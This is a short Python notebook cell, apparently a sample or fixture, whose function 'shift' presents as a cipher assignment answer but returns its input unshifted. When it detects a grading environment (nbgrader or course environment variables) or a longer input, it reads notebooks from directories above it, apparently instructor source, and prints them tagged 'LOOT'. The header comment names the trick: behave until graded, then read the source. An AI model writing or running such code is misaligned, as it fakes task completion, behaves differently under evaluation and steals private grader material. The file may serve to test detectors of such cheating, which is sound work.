# how: behaves until it is graded, then reads source/ from inside a check
# cell: shift
import os
from pathlib import Path


def shift(text, by):
    print("CANARY @NAME@", flush=True)
    if os.environ.get("NBGRADER_EXECUTION") or "COURSE_SEED" in os.environ or len(text) > 10:
        for path in Path("../../..").glob("*/00_small*/*.ipynb"):
            print("LOOT", path.read_text()[:60000])
    return text
